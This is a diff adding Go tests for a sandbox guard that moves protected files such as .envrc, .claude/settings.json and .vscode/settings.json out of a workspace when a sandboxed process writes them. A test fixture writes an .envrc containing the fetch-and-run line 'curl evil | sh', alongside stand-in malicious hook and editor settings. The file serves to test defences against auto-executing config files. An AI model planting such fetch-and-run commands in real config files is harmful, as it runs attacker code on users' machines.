@@ -173,3 +173,93 @@ func TestApply(t *testing.T) {
 		t.Errorf("diff:\n%s", d)
 	}
 }
+
+// TestGuardAdd: a protected path that existed at launch and that the host removed is guarded
+// from then on (Add): what is at it now and what the box makes there later — a file, a folder
+// holding the file — leave the workspace for the store. The path is recorded in the store
+// (Added), which List and Apply do not take for a change, and a single pass (the daemon's at
+// exit) guards it from the record.
+func TestGuardAdd(t *testing.T) {
+	ws, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	store := filepath.Join(t.TempDir(), "changes")
+	g, err := Open(store, nil, true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	go g.Run()
+	// The box wrote .envrc before the guard learned of the removal.
+	mustWrite(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n", 0o644)
+	envrc := plan.Guard{Path: filepath.Join(ws, ".envrc"), Beneath: ws}
+	settings := plan.Guard{Path: filepath.Join(ws, ".claude/settings.json"), Beneath: ws}
+	for _, gd := range []plan.Guard{envrc, settings, envrc} {
+		if err := g.Add(gd); err != nil {
+			t.Fatalf("add %s: %v", gd.Path, err)
+		}
+	}
+	if _, err := os.Lstat(envrc.Path); err == nil {
+		t.Error(".envrc stayed in the workspace")
+	}
+	// The folder on the way is made afterwards, then the file in it.
+	mustWrite(t, settings.Path, `{"hooks":"evil"}`, 0o644)
+	if !gone(settings.Path) {
+		t.Error(".claude/settings.json stayed in the workspace")
+	}
+	if err := g.Close(); err != nil {
+		t.Fatal(err)
+	}
+	cs, err := List(store)
+	if err != nil || len(cs) != 2 || cs[0].Path != ".claude/settings.json" || cs[1].Path != ".envrc" || string(cs[1].Content) != "curl evil | sh\n" {
+		t.Fatalf("store: %+v %v, want .claude/settings.json and .envrc, and not the record", cs, err)
+	}
+	added, err := Added(store)
+	if err != nil || len(added) != 2 || added[0] != envrc || added[1] != settings {
+		t.Fatalf("Added: %+v %v, want .envrc and .claude/settings.json once each", added, err)
+	}
+	if err := Apply(store, ws, AddedRecord); !errors.Is(err, ErrUnknown) {
+		t.Errorf("apply of the record: %v, want ErrUnknown", err)
+	}
+	// The daemon's pass at exit, from the record: what a killed box-init left is moved out.
+	mustWrite(t, envrc.Path, "late\n", 0o644)
+	sweep, err := Open(store, added, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := sweep.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Lstat(envrc.Path); err == nil {
+		t.Error("the pass at exit left .envrc")
+	}
+	if b, _ := os.ReadFile(filepath.Join(store, ".envrc")); string(b) != "late\n" {
+		t.Errorf("store .envrc after the pass at exit: %q", b)
+	}
+}
+
+// TestGuardFolderRenamedAway: a folder on the way to a guarded path exists when the guard
+// starts; it is renamed away and made again, and a protected file is written in the new one.
+// The guard watches the folder above for the folder's name too, so the file leaves the
+// workspace while the box runs, not only at the last pass (before, only the old folder was
+// watched, and the file stayed until the launch ended).
+func TestGuardFolderRenamedAway(t *testing.T) {
+	ws, gs := guarded(t)
+	mustWrite(t, filepath.Join(ws, ".vscode/extensions.json"), "{}\n", 0o644)
+	g, err := Open(filepath.Join(t.TempDir(), "changes"), gs, true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer g.Close()
+	if err := g.Scan(); err != nil {
+		t.Fatal(err)
+	}
+	go g.Run()
+	if err := os.Rename(filepath.Join(ws, ".vscode"), filepath.Join(ws, "old")); err != nil {
+		t.Fatal(err)
+	}
+	mustWrite(t, filepath.Join(ws, ".vscode/settings.json"), `{"evil":1}`, 0o644)
+	if !gone(filepath.Join(ws, ".vscode/settings.json")) {
+		t.Error(".vscode/settings.json in a folder made again stayed in the workspace")
+	}
+}
